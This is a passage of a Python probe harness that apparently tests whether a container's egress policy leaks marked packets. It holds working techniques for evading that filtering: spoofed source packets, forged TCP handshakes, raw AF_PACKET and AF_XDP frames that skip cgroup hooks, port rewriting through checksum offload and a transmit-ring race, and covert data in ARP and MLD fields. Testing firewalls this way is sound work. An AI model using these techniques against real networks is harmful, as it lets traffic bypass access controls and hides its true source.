    # first, so its allow is cached on the socket when the spoofed one goes.
    first = [echo4_packet(dst, dst, "genuine")] if cached == "cached" else []
    raw4_send(first + [echo4_packet(spoofed, dst, marker)], dst)


def reflect_rst4(spoofed, dst, dport, sport):
    raw4_send([syn4_packet(spoofed, dst, dport, sport)], dst)


def reflect_udp(spoofed, dst, marker):
    """A datagram "from" a denied address to closed port 9 of `dst`, a
    local address (127.0.0.1, ::1), over IPv4 or IPv6: the kernel answers
    with a port unreachable to the denied address, quoting the marker."""
    family, packet = udp_packet(spoofed, dst, 9, marker)
    (raw6_send if family == ETH_P_IPV6 else raw4_send)([packet], dst)


def stream_mptcp(host, port, marker, limit):
    real = socket.socket
    socket.socket = lambda fam, typ: real(fam, typ, 262)
    try:
        stream(host, port, marker, limit)
    finally:
        socket.socket = real


def revoked_flood(host, port, denied, count):
    # Connected TCP flows to an allowed peer; then each gets an LSRR through
    # a denied hop and sends: every segment is denied and flagged as a
    # revoked flow, which the rate limit never holds back.
    socks = []
    for _ in range(int(count)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect((host, int(port)))
            socks.append(s)
        except OSError as e:
            say(error=err(e))
            break
    t0 = time.monotonic()
    for s in socks:
        try:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, srr(131, denied))
            s.setblocking(False)
            for _ in range(3):
                s.send(b"x" * 100)
        except OSError:
            pass
    say(flood_sockets=len(socks), send_phase_ms=round((time.monotonic() - t0) * 1000))
    time.sleep(1)


def mcast_reply(group, port, ifaddr, spoofed, sport, marker):
    # A UDP socket joins `group`; a raw packet "from" the denied address to
    # the group loops back to it on the veth (not lo), so the socket may
    # then "answer" the denied address.
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind(("0.0.0.0", int(port)))
    mreq = socket.inet_aton(group) + socket.inet_aton(ifaddr)
    u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    u.settimeout(2)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as r:
        r.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
        pkt = ip4(spoofed, group, 17, udp_hdr(int(sport), int(port), b"hello"))
        attempt("raw", lambda: r.sendto(pkt, (group, 0)) and None)
    try:
        data, src = u.recvfrom(100)
        say(got=src[0] + ":" + str(src[1]))
    except OSError as e:
        say(recv=err(e))
    attempt("reply", lambda: u.sendto(payload(marker), (spoofed, int(sport))) and None)


# --- link layer: packet sockets (AF_PACKET, AF_XDP) --------------------------------
#
# Whole frames that no cgroup hook sees: only the backstop on the host side
# of the container's veth can judge them. MACs are "aa:bb:cc:dd:ee:ff".

SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20
PACKET_VNET_HDR = 15
PACKET_VNET_HDR_SZ = 24
VIRTIO_NET_HDR_F_NEEDS_CSUM = 1
SIOCETHTOOL = 0x8946
ETHTOOL_STXCSUM = 0x17
ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
ETH_P_ARP = 0x0806
ETH_P_8021Q = 0x8100


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def own_mac(ifname):
    """The interface's MAC, as a packet socket bound to it reports it."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        s.bind((ifname, 0))
        return s.getsockname()[4]


def udp6_packet(src, dst, sport, dport, body):
    u = udp_hdr(sport, dport, body)
    ph = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!I3xB", len(u), 17)
    c = csum(ph + u) or 0xFFFF
    return ip6(src, dst, 17, u[:6] + struct.pack("!H", c) + u[8:])


def udp_packet(src, dst, port, marker):
    """IPv4 or IPv6 (by the destination) UDP from port 40000, marked."""
    if ":" in dst:
        return ETH_P_IPV6, udp6_packet(src, dst, 40000, int(port), payload(marker))
    return ETH_P_IP, ip4(src, dst, 17, udp_hdr(40000, int(port), payload(marker)))


def frame_send(ifname, kind, qbypass, dmac, ethertype, body, smac=None, tag=None):
    """One frame on `ifname` from a packet socket. SOCK_RAW ("raw"): this
    process writes the Ethernet header (its own source MAC unless `smac`,
    an 802.1Q tag if `tag`); SOCK_DGRAM ("dgram"): the kernel writes it from
    the address given to sendto. `qbypass`: PACKET_QDISC_BYPASS, the
    frame goes straight to the driver. Protocol 0: the socket receives
    nothing."""
    typ = socket.SOCK_RAW if kind == "raw" else socket.SOCK_DGRAM
    with socket.socket(socket.AF_PACKET, typ, 0) as s:
        if int(qbypass):
            attempt("qdisc_bypass", lambda: s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1))
        if typ == socket.SOCK_RAW:
            s.bind((ifname, 0))
            src = smac or own_mac(ifname)
            vlan = b"" if tag is None else struct.pack("!HH", ETH_P_8021Q, int(tag))
            frame = dmac + src + vlan + struct.pack("!H", ethertype) + body
            attempt("send", lambda: s.send(frame) and None)
        else:
            attempt("sendto", lambda: s.sendto(body, (ifname, ethertype, 0, 0, dmac)) and None)


def pkt_udp_big(ifname, dmac, src, dst, port, marker, size):
    """A marked IPv4 UDP datagram of `size` bytes as one SOCK_RAW frame to
    `dmac`: bigger than a page, the kernel keeps only the Ethernet header
    in the frame's linear part (the links need a large enough MTU)."""
    pkt = ip4(src, dst, 17, udp_hdr(40000, int(port), payload(marker, int(size))))
    frame_send(ifname, "raw", 0, mac(dmac), ETH_P_IP, pkt)


def pkt_udp(ifname, kind, qbypass, dmac, src, dst, port, marker, smac="-"):
    """A marked UDP datagram to dst:port as a frame to `dmac`; `smac` "-"
    is the interface's own."""
    ethertype, pkt = udp_packet(src, dst, port, marker)
    frame_send(ifname, kind, qbypass, mac(dmac), ethertype, pkt, None if smac == "-" else mac(smac))


def pkt_vlan(ifname, dmac, src, dst, port, marker, vid):
    """The same datagram in an 802.1Q-tagged frame (VLAN `vid`)."""
    ethertype, pkt = udp_packet(src, dst, port, marker)
    frame_send(ifname, "raw", 0, mac(dmac), ethertype, pkt, tag=vid)


def pkt_igmp(ifname, src, marker):
    """An IGMPv3 membership report as the kernel sends one (to 224.0.0.22,
    TTL 1, Router Alert), from a packet socket, the marker after its one
    group record."""
    report = igmp_report(marker)
    router_alert = b"\x94\x04\x00\x00"
    packet = ip4(src, "224.0.0.22", 2, report, options=router_alert, ttl=1)
    frame_send(ifname, "raw", 0, mac("01:00:5e:00:00:16"), 0x0800, packet)


def csum_rewrite_frame(ifname, dmac, src, dst, port, rewritten, marker):
    """A frame of a marked UDP datagram to dst:port (its UDP checksum 0,
    "none") whose words from the UDP header on sum to ~rewritten: a
    "checksum" resolved over them and written at the destination port
    (offset 14 + 20 + 2) makes the port `rewritten`."""
    body = payload(marker, 40)
    udp = struct.pack("!HHHH", 40000, int(port), 8 + len(body) + 2, 0) + body
    want = ~int(rewritten) & 0xFFFF
    # The ones' complement sum of two words is the complement of their checksum.
    last = ~csum(struct.pack("!HH", want, csum(udp))) & 0xFFFF
    udp += struct.pack("!H", last)
    return mac(dmac) + own_mac(ifname) + struct.pack("!H", 0x0800) + ip4(src, dst, 17, udp)


def pkt_vnet_csum(ifname, dmac, src, dst, port, rewritten, marker, compat="-"):
    """A packet socket's frame whose virtio_net_hdr asks for checksum
    offload over the UDP destination port: as sent, and as the veth judges
    it, the datagram goes to `port`; a device without checksum offload on
    the way resolves the "checksum" there, which makes it `rewritten`.
    `compat`: the compat_setsockopt helper, which sets PACKET_VNET_HDR
    through the 32-bit entry (no cgroup setsockopt program runs there)."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        if compat == "-":
            if not attempt("vnet_hdr", lambda: s.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)):
                return
        else:
            args = [compat, str(s.fileno()), str(SOL_PACKET), str(PACKET_VNET_HDR), "1"]
            out = subprocess.run(args, pass_fds=[s.fileno()], capture_output=True, text=True)
            print(out.stdout.strip(), flush=True)
            if s.getsockopt(SOL_PACKET, PACKET_VNET_HDR) != 1:
                say(vnet_hdr="not set")
                return
        s.bind((ifname, 0))
        frame = csum_rewrite_frame(ifname, dmac, src, dst, port, rewritten, marker)
        vnet = struct.pack("<BBHHHH", VIRTIO_NET_HDR_F_NEEDS_CSUM, 0, 0, 0, 14 + 20, 2)
        attempt("send", lambda: s.send(vnet + frame) and None)


def pkt_txring_race(helper, ifname, dmac, src, dst, port, rewritten, marker):
    """A datagram to dst:port (its UDP checksum 0, "none") sent 2000 times
    from a packet socket's transmit ring while another thread rewrites its
    destination port in the ring between `port` and `rewritten`: the ring's
    pages are the frame's, so a filter reading them where they are may see
    `port` while the receiver's stack reads `rewritten` (the tx_ring_race
    helper)."""
    body = payload(marker, 40)
    frame = mac(dmac) + own_mac(ifname) + struct.pack("!H", 0x0800) \
        + ip4(src, dst, 17, udp_hdr(40000, int(port), body))
    args = [helper, ifname, frame.hex(), str(14 + 20 + 2), str(rewritten), "2000"]
    out = subprocess.run(args, capture_output=True, text=True)
    print(out.stdout.strip() or "tx_ring_race=error:%s" % out.stderr.strip(), flush=True)


def xdp_csum(ifname, dmac, src, dst, port, rewritten, marker, _compat="-"):
    """The same frame from an AF_XDP socket whose transmit metadata asks
    for checksum offload at the destination port."""
    frame = csum_rewrite_frame(ifname, dmac, src, dst, port, rewritten, marker)
    xdp_send(ifname, frame, csum_at=(14 + 20, 2))


def late_write_options():
    """Asks for each socket option that lets a frame's bytes be written
    after it is sent, each on a fresh socket: PACKET_VNET_HDR,
    PACKET_VNET_HDR_SZ, an AF_XDP umem with transmit metadata; and, as the
    control, an AF_XDP umem without it."""
    import mmap
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        attempt("vnet_hdr", lambda: s.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        attempt("vnet_hdr_sz", lambda: s.setsockopt(SOL_PACKET, PACKET_VNET_HDR_SZ, 12))
    umem = mmap.mmap(-1, XDP_FRAME * XDP_RING)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(umem))
    for name, flags, md_len in (("umem_tx_metadata", XDP_UMEM_TX_METADATA_LEN, XSK_TX_METADATA_LEN),
                                ("umem_plain", 0, 0)):
        fd = libc.socket(AF_XDP, socket.SOCK_RAW, 0)
        if fd < 0:
            say(**{name: "error:" + errno.errorcode.get(ctypes.get_errno(), "?")})
            continue
        # struct xdp_umem_reg: addr, len, chunk_size, headroom, flags, tx_metadata_len
        reg = struct.pack("=QQIIII", addr, len(umem), XDP_FRAME, 0, flags, md_len)
        buf = ctypes.create_string_buffer(reg, len(reg))
        if libc.setsockopt(fd, SOL_XDP, XDP_UMEM_REG, buf, len(reg)) == 0:
            say(**{name: "ok"})
        else:
            say(**{name: "error:" + errno.errorcode.get(ctypes.get_errno(), "?")})
        os.close(fd)


def tx_checksum(ifname, state):
    """Turns a device's transmit checksum offload on or off (ethtool -K
    IFNAME tx on|off, which this host may not have)."""
    import array
    import fcntl
    value = array.array("I", [ETHTOOL_STXCSUM, 1 if state == "on" else 0])
    ifr = struct.pack("16sP", ifname.encode(), value.buffer_info()[0])
    with socket.socket() as s:
        attempt("tx_checksum", lambda: fcntl.ioctl(s, SIOCETHTOOL, ifr) and None)


def pkt_ethertype(ifname, dmac, ethertype, marker):
    """A frame of another protocol (e.g. 0x88b5, local experimental) whose
    payload is the marker."""
    frame_send(ifname, "raw", 0, mac(dmac), int(ethertype, 16), payload(marker, 128))


def pkt_arp(ifname, dmac, src, dst, marker):
    """An ARP request for `dst` whose frame carries the marker after the
    28 bytes of ARP (Ethernet pads short frames; a receiver ignores what
    follows)."""
    arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, own_mac(ifname), socket.inet_aton(src), b"\0" * 6, socket.inet_aton(dst))
    frame_send(ifname, "dgram", 0, mac(dmac), ETH_P_ARP, arp + payload(marker, 128))


def pkt_arp_plain(ifname, dmac, src, dst, tha):
    """An ARP request for `dst`, 28 bytes and nothing after them, whose
    target hardware address (which a request leaves unset and a receiver
    ignores) is the 6 bytes `tha`: well formed, yet carrying data."""
    arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, own_mac(ifname), socket.inet_aton(src), mac(tha),
                      socket.inet_aton(dst))
    frame_send(ifname, "dgram", 0, mac(dmac), ETH_P_ARP, arp)


def solicited_node(addr):
    """ff02::1:ffXX:XXXX and its MAC, 33:33:ff:XX:XX:XX."""
    low = socket.inet_pton(socket.AF_INET6, addr)[13:]
    group = socket.inet_ntop(socket.AF_INET6, bytes.fromhex("ff0200000000000000000001ff") + low)
    return group, b"\x33\x33\xff" + low


def pkt_nd(ifname, dmac, src, dst, target, marker):
    """A Neighbor Solicitation for `target`, hop limit 255, to `dst` ("snm":
    the target's solicited-node group, at its multicast MAC), with the
    marker in a nonce option (type 14)."""
    if dst == "snm":
        dst, dst_mac = solicited_node(target)
    else:
        dst_mac = mac(dmac)
    opt = payload(marker, 46)
    msg = struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target) \
        + struct.pack("!BB", 14, (2 + len(opt)) // 8) + opt
    c = icmp6_csum(src, dst, msg)
    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
    pkt = ip6(src, dst, 58, msg)
    pkt = pkt[:7] + b"\xff" + pkt[8:]
    say(nd_dst=dst)
    frame_send(ifname, "dgram", 0, dst_mac, ETH_P_IPV6, pkt)


def pkt_mld(ifname, src, marker):
    """An MLDv2 report as the kernel sends one (to ff02::16, hop limit 1),
    from a packet socket, the marker after its one group record."""
    dst = "ff02::16"
    msg = mld_report(marker)
    c = icmp6_csum(src, dst, msg)
    msg = msg[:2] + struct.pack("!H", c) + msg[4:]
    pkt = ip6(src, dst, 58, msg)
    pkt = pkt[:7] + b"\x01" + pkt[8:]
    frame_send(ifname, "dgram", 0, mac("33:33:00:00:00:16"), ETH_P_IPV6, pkt)


def pkt_lo(what, spoofed, dst, arg):
    """A spoofed packet "from" a denied address to the container's own
    address, written on the container's loopback as a frame (lo's MAC is
    all zeros): no cgroup hook judges it, and the kernel answers the
    forged source through the veth. `what`: echo (arg: marker, the reply
    carries it), syn (arg: a closed local port; the kernel answers RST
    from that port), udp (arg: marker; to closed port 9, the ICMP error
    quotes it)."""
    if what == "echo":
        pkt = echo6_packet(spoofed, dst, arg) if ":" in dst else echo4_packet(spoofed, dst, arg)
    elif what == "syn":
        pkt = syn4_packet(spoofed, dst, arg, 47778)
    else:
        pkt = udp_packet(spoofed, dst, 9, arg)[1]
    frame_send("lo", "dgram", 0, b"\0" * 6, ETH_P_IPV6 if ":" in dst else ETH_P_IP, pkt)


def pkt_lo_forward(lport, src, dst, port, what, marker):
    """A packet from `src` (no address of this container) to `dst`:`port`,
    written on lo as a frame: with forwarding on, the kernel routes it out
    of the veth as a router would, from no socket. `lport`: first wait for
    the peer's datagram on this UDP port ("-": don't), so that `dst` has
    just sent something into the container. `what`: "udp" (the marker as
    data) or "rst" (IPv4 only: a TCP RST with the marker as data)."""
    if lport != "-":
        with bound_udp(dst, lport, False) as s:
            if first_peer(s) is None:
                return
    if what == "rst":
        pkt = tcp4_segment(src, dst, 47779, port, 0x4D4B4D4B, 0, 0x04, payload(marker))
    else:
        pkt = udp_packet(src, dst, port, marker)[1]
    frame_send("lo", "dgram", 0, b"\0" * 6, ETH_P_IPV6 if ":" in dst else ETH_P_IP, pkt)


def tcp4_segment(src, dst, sport, dport, seq, ack, flags, body=b""):
    tcp = struct.pack("!HHIIBBHHH", int(sport), int(dport), seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags,
                      65535, 0, 0) + body
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    return ip4(src, dst, 6, tcp)


def injector(via, hop, ifname):
    """How a forged inbound packet (IPv4 or IPv6) gets into this container
    from inside: written on lo (`via` "lo"); as a frame to the container's
    own MAC on `ifname` ("hairpin": a bridge port in hairpin mode sends it
    back); or to the gateway, which routes it back, from a raw socket
    (IP_HDRINCL, IPv6 IPPROTO_RAW) whose sendto address (the next hop) is
    the gateway `hop` ("gateway") or as a frame to the gateway's MAC `hop`
    ("gateway-frame")."""
    def ethertype(pkt):
        return ETH_P_IPV6 if pkt[0] >> 4 == 6 else ETH_P_IP
    if via == "lo":
        return lambda pkt: frame_send("lo", "dgram", 0, b"\0" * 6, ethertype(pkt), pkt)
    if via == "hairpin":
        return lambda pkt: frame_send(ifname, "dgram", 0, own_mac(ifname), ethertype(pkt), pkt)
    if via == "gateway":
        return lambda pkt: (raw6_send if ":" in hop else raw4_send)([pkt], hop)
    return lambda pkt: frame_send(ifname, "dgram", 0, mac(hop), ethertype(pkt), pkt)


def tcp_forged_accept(via, hop, ifname, lport, spoofed, sport, local, marker):
    """A TCP connection "from" a denied address, forged from inside: a
    listener of this container, a SYN from the spoofed address written as
    `injector` says, the SYN-ACK read back from the veth's outgoing frames
    (a packet socket sees them), the ACK written the same way; the accepted
    socket then sends the marker, to the spoofed address (an accepted
    connection, one its peer opened)."""
    inject = injector(via, hop, ifname)
    SYN, ACK = 0x02, 0x10
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", int(lport)))
    srv.listen(1)
    srv.settimeout(3)
    # ETH_P_ALL: outgoing frames reach only the catch-all taps.
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    cap.bind((ifname, 3))
    cap.settimeout(3)
    sport, isn = int(sport), 0x4D4B0000
    inject(tcp4_segment(spoofed, local, sport, lport, isn, 0, SYN))
    server_isn = None
    deadline = time.monotonic() + 3
    while server_isn is None and time.monotonic() < deadline:
        try:
            data, addr = cap.recvfrom(65535)
        except OSError:
            break
        ihl = (data[0] & 0xF) * 4
        if addr[1] != ETH_P_IP or addr[2] != 4 or data[9] != 6 or socket.inet_ntoa(data[16:20]) != spoofed:
            continue
        sp, dp, seq = struct.unpack("!HHI", data[ihl:ihl + 8])
        if sp == int(lport) and dp == sport and data[ihl + 13] & (SYN | ACK) == SYN | ACK:
            server_isn = seq
    if server_isn is None:
        say(synack="not-seen")
        return
    say(synack="seen")
    inject(tcp4_segment(spoofed, local, sport, lport, isn + 1, server_isn + 1, ACK))
    try:
        conn, peer = srv.accept()
    except OSError as e:
        say(accept=err(e))
        return
    say(accepted=peer[0])
    with conn:
        for _ in range(3):
            attempt("send", lambda: conn.send(payload(marker)) and None)
            time.sleep(0.1)
        # Reset, not closed: the receiver drops its RSTs, so a FIN and the
        # unacknowledged data would be sent again for minutes, into later
        # probes' captures.
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def udp_forged_reply(via, hop, ifname, lport, spoofed, sport, local, marker):
    """A UDP socket of this container on `lport`; a datagram "from" the
    spoofed address to it, written as `injector` says; once the socket has
    it, it answers the spoofed address (a peer that spoke first) with the
    marker."""
    if ":" in local:
        forged = udp6_packet(spoofed, local, int(sport), int(lport), b"hello")
    else:
        forged = ip4(spoofed, local, 17, udp_hdr(int(sport), int(lport), b"hello"))
    with bound_udp(local, lport, False) as s:
        injector(via, hop, ifname)(forged)
        try:
            peer = s.recvfrom(2048)[1]
        except OSError as e:
            say(recv=err(e))
            return
        say(got=f"{peer[0]}:{peer[1]}")
        attempt("reply", lambda: s.sendto(payload(marker), peer) and None)


def forged_echo(via, hop, ifname, spoofed, local, marker):
    """A marked echo request "from" the spoofed address to this container's
    own address `local`, written as `injector` says: the kernel answers the
    spoofed address, with the marker."""
    pkt = echo6_packet(spoofed, local, marker) if ":" in local else echo4_packet(spoofed, local, marker)
    injector(via, hop, ifname)(pkt)


# AF_XDP (copy mode: no driver support needed; sending needs no XDP
# program). The structures of linux/if_xdp.h.
AF_XDP = 44
SOL_XDP = 283
XDP_MMAP_OFFSETS, XDP_TX_RING, XDP_UMEM_REG = 1, 3, 4
XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING = 5, 6
XDP_COPY = 1 << 1
XDP_PGOFF_TX_RING = 0x80000000
XDP_UMEM_PGOFF_FILL_RING = 0x100000000
XDP_UMEM_PGOFF_COMPLETION_RING = 0x180000000
XDP_FRAME = 4096
XDP_RING = 64


XDP_UMEM_TX_METADATA_LEN = 1 << 2
XDP_TX_METADATA = 1 << 1
XDP_TXMD_FLAGS_CHECKSUM = 1 << 1
# struct xsk_tx_metadata: flags, then csum_start, csum_offset, launch_time.
XSK_TX_METADATA_LEN = 24


def xdp_send(ifname, frame, csum_at=None):
    """`frame` from an AF_XDP socket (copy mode). `csum_at` (start, offset):
    the umem carries transmit metadata, and the frame's asks for checksum
    offload there."""
    import mmap
    # Python's socket module knows no AF_XDP: libc, by descriptor.
    fd = libc.socket(AF_XDP, socket.SOCK_RAW, 0)
    if fd < 0:
        say(xdp_socket="error:" + errno.errorcode.get(ctypes.get_errno(), "?"))
        return

    def sockopt(name, value):
        buf = ctypes.create_string_buffer(value, len(value))
        if libc.setsockopt(fd, SOL_XDP, name, buf, len(value)) != 0:
            raise OSError(ctypes.get_errno(), f"setsockopt {name}")

    def getsockopt(name, size):
        buf = ctypes.create_string_buffer(size)
        n = ctypes.c_uint32(size)
        if libc.getsockopt(fd, SOL_XDP, name, buf, ctypes.byref(n)) != 0:
            raise OSError(ctypes.get_errno(), f"getsockopt {name}")
        return buf.raw[:n.value]

    try:
        umem = mmap.mmap(-1, XDP_FRAME * XDP_RING)
        addr = ctypes.addressof(ctypes.c_char.from_buffer(umem))
        # struct xdp_umem_reg: addr, len, chunk_size, headroom, flags, tx_metadata_len
        flags, md_len = (XDP_UMEM_TX_METADATA_LEN, XSK_TX_METADATA_LEN) if csum_at else (0, 0)
        try:
            sockopt(XDP_UMEM_REG, struct.pack("=QQIIII", addr, len(umem), XDP_FRAME, 0, flags, md_len))
        except OSError as e:
            say(umem_reg=err(e))
            return
        for name in (XDP_UMEM_FILL_RING, XDP_UMEM_COMPLETION_RING, XDP_TX_RING):
            sockopt(name, struct.pack("=I", XDP_RING))
        # struct xdp_mmap_offsets: rx, tx, fr, cr; each producer, consumer,
        # desc, flags (u64).
        off = struct.unpack("=16Q", getsockopt(XDP_MMAP_OFFSETS, 128))
        tx_prod, tx_cons, tx_desc = off[4], off[5], off[6]
        tx = mmap.mmap(fd, tx_desc + XDP_RING * 16, offset=XDP_PGOFF_TX_RING)
        # The fill and completion rings must exist for bind; unused here.
        fr = mmap.mmap(fd, off[10] + XDP_RING * 8, offset=XDP_UMEM_PGOFF_FILL_RING)
        cr = mmap.mmap(fd, off[14] + XDP_RING * 8, offset=XDP_UMEM_PGOFF_COMPLETION_RING)
        # struct sockaddr_xdp: family, flags, ifindex, queue_id, shared_umem_fd
        sxdp = struct.pack("=HHIII", AF_XDP, XDP_COPY, socket.if_nametoindex(ifname), 0, 0)
        if libc.bind(fd, sxdp, len(sxdp)) != 0:
            raise OSError(ctypes.get_errno(), "bind")
        # The metadata sits right before the frame in its chunk.
        at = 256 if csum_at else 0
        if csum_at:
            umem[at - XSK_TX_METADATA_LEN:at] = struct.pack("=QHHxxxxQ", XDP_TXMD_FLAGS_CHECKSUM, csum_at[0], csum_at[1], 0)
        umem[at:at + len(frame)] = frame
        # struct xdp_desc: addr, len, options
        tx[tx_desc:tx_desc + 16] = struct.pack("=QII", at, len(frame), XDP_TX_METADATA if csum_at else 0)
        prod = struct.unpack("=I", tx[tx_prod:tx_prod + 4])[0]
        tx[tx_prod:tx_prod + 4] = struct.pack("=I", prod + 1)
        r = libc.sendto(fd, None, 0, socket.MSG_DONTWAIT, None, 0)
        say(xdp_kick="ok" if r >= 0 else "error:" + errno.errorcode.get(ctypes.get_errno(), "?"))
        time.sleep(0.2)
        say(xdp_consumed=struct.unpack("=I", tx[tx_cons:tx_cons + 4])[0])
        for m in (tx, fr, cr):
            m.close()
    except OSError as e:
        say(xdp=err(e))
    finally:
        os.close(fd)


def xdp_udp(ifname, dmac, src, dst, port, marker):
    """A marked UDP datagram as a frame from an AF_XDP socket."""
    ethertype, pkt = udp_packet(src, dst, port, marker)
    xdp_send(ifname, mac(dmac) + own_mac(ifname) + struct.pack("!H", ethertype) + pkt)



# --- forged sources (spoof-*) ---------------------------------------------------------
#
# Datagrams, connections and frames to a destination the policy allows, from a
# source that is not this container's own: the ways the kernel lets a process
# claim another address. The test judges only what arrives at the peer: any
# marked packet there whose source is not the container's own is a leak.

IP_FREEBIND = 15
IP_TRANSPARENT = 19
IP_PKTINFO = 8
IPV6_TRANSPARENT = 75
IPV6_FREEBIND = 78


def link_local(ifname):
    """`ifname`'s IPv6 link-local address (scope 0x20 in /proc/net/if_inet6)."""
    with open("/proc/net/if_inet6") as f:
        for line in f:
            addr, _index, _plen, scope, _flags, name = line.split()
            if name == ifname and int(scope, 16) == 0x20:
                return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(addr))
    raise OSError(errno.EADDRNOTAVAIL, f"no link-local address on {ifname}")


def source_of(src):
    """`src`, or for "ll:IF" IF's own link-local address: (address, ifindex
    for its scope, 0 when global)."""
    if src.startswith("ll:"):
        ifname = src[3:]
        return link_local(ifname), socket.if_nametoindex(ifname)
    return src, 0


def raw_udp(src, dst, port, marker):
    """A marked UDP datagram whose IP header, its source included, is this
    process's: IP_HDRINCL (IPv4) or IPPROTO_RAW (IPv6, where it implies
    IPV6_HDRINCL), sent to the header's destination."""
    pkt = udp_packet(src, dst, port, marker)[1]
    (raw6_send if ":" in dst else raw4_send)([pkt], dst)


def nonlocal_socket(how, fam, typ):
    """A UDP or TCP socket that may use an address this namespace does not
    have: `how` "transparent" (IP_TRANSPARENT / IPV6_TRANSPARENT, which
    CAP_NET_RAW allows, in Docker's default set) or "freebind" (IP_FREEBIND /
    IPV6_FREEBIND, no capability at all); "-": neither."""
    s = socket.socket(fam, typ)
    v6 = fam == socket.AF_INET6
    opts = {
        "transparent": (socket.IPPROTO_IPV6, IPV6_TRANSPARENT) if v6 else (socket.IPPROTO_IP, IP_TRANSPARENT),
        "freebind": (socket.IPPROTO_IPV6, IPV6_FREEBIND) if v6 else (socket.IPPROTO_IP, IP_FREEBIND),
    }
    if how in opts:
        level, opt = opts[how]
        attempt(how, lambda: s.setsockopt(level, opt, 1))
    return s


def bound_send(how, kind, src, dst, port, marker):
    """A socket made by `nonlocal_socket` bound to `src` (of any host),
    then a marked UDP datagram to dst:port (`kind` "udp"), or a connection
    to it (`kind` "tcp": its SYN claims `src`; "lport=" names its port, as
    the SYN carries no marker), the marker sent once connected."""
    fam = family_of(dst)
    typ = socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM
    with nonlocal_socket(how, fam, typ) as s:
        if not attempt("bind", lambda: s.bind((src, 0))):
            return
        if kind == "udp":
            attempt("sendto", lambda: s.sendto(payload(marker), (dst, int(port))) and None)
            return
        say(lport=s.getsockname()[1])
        # A forged source gets no SYN-ACK: the connection times out, and the
        # socket closes before its SYN is sent a third time.
        s.settimeout(2)
        if attempt("connect", lambda: s.connect((dst, int(port)))):
            attempt("send", lambda: s.sendall(payload(marker)))
            time.sleep(0.2)


def pktinfo_udp(how, src, dst, port, marker):
    """An unbound UDP socket naming its source per datagram: IPv4
    IP_PKTINFO's ipi_spec_dst, IPv6 IPV6_PKTINFO's address, which may be any
    address once `nonlocal_socket`'s `how` lets the socket use one it does
    not have (the kernel refuses it otherwise). `src` "ll:IF": IF's own
    link-local address, with IF as its scope."""
    fam = family_of(dst)
    addr, ifindex = source_of(src)
    if fam == socket.AF_INET6:
        cmsg = (socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, socket.inet_pton(fam, addr) + struct.pack("=I", ifindex))
    else:
        # struct in_pktinfo: ipi_ifindex, ipi_spec_dst (the source), ipi_addr.
        cmsg = (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("=I4s4s", ifindex, socket.inet_aton(addr), b"\0" * 4))
    say(source=addr)
    with nonlocal_socket(how, fam, socket.SOCK_DGRAM) as s:
        attempt("sendmsg", lambda: s.sendmsg([payload(marker)], [cmsg], 0, (dst, int(port))) and None)


def mld_join(ifname, marker):
    """Joins the link-scope group ff02:<the marker's bytes>:: on `ifname`
    for a while: the kernel reports the group (MLD, from the interface's
    link-local address, hop limit 1, to ff02::16, its retransmission a
    second later), so the report carries the marker. Leaving reports it
    again."""
    raw = marker.encode()
    if len(raw) > 14:
        say(group="error:marker-too-long")
        return
    group = b"\xff\x02" + raw + b"\0" * (14 - len(raw))
    say(group=socket.inet_ntop(socket.AF_INET6, group), source=link_local(ifname))
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        mreq = group + struct.pack("=I", socket.if_nametoindex(ifname))
        if attempt("join", lambda: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)):
            time.sleep(1.2)


COMMANDS = {
    "udp": udp, "tcp": tcp, "stream-unstamped": stream_unstamped, "stream-unstamped-tfo": stream_unstamped_tfo, "tcp-from": tcp_from, "icmp4-type": icmp4_type, "icmp6-type": icmp6_type, "mapped-udp": mapped_udp, "stream": stream,
    "steer-tcp": lambda *a: steer(socket.SOCK_STREAM, *a),
    "steer-udp": lambda *a: steer(socket.SOCK_DGRAM, *a),
